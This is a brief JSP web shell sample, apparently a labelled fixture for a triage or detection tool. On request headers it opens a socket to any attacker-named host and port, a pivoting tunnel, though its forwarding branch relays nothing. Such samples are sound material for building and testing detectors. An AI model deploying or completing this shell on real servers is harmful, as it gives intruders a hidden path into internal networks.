<%-- triage-expect: triage_jsp_tunnel --%>
<%@page import="java.nio.*,java.nio.channels.*,java.net.*"%>
<%
    String cmd = request.getHeader("X-CMD");
    if (cmd != null && cmd.equals("CONNECT")) {
        String target = request.getHeader("X-TARGET");
        SocketChannel ch = SocketChannel.open();
        ch.connect(new InetSocketAddress(target, Integer.parseInt(request.getHeader("X-PORT"))));
        session.setAttribute("socket", ch);
        response.setHeader("X-STATUS", "OK");
    } else if ("FORWARD".equals(cmd)) {
        response.setHeader("X-STATUS", "OK");
    }
%>
